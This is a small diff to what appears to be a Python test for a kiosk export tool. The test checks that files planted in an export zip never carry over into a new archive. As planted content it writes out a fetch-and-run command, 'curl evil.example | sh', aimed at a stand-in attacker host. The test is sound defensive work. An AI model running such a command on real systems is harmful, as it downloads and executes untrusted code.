@@ -53,7 +53,7 @@ def test_files_planted_in_an_export_zip_never_travel_into_the_new_zip(kiosk_a, t
     report = _export([kiosk_a], archive, zip=True)
     entries = _clip_entries(archive)
     assert not set(PLANTED) & set(entries) and not [c for c in entries.values() if b"evil.example" in c]
-    assert any("that its export did not write" in note and "evil" not in note for note in report.skipped)
+    assert any("that its export did not write" in note and "evil" not in note for note in map(str, report.skipped))
     assert report.clips == 3 and sum(name.endswith(".mp4") for name in entries) == 3
 
     _rewrite(archive, add={name: b"curl evil.example | sh\n" for name in PLANTED})
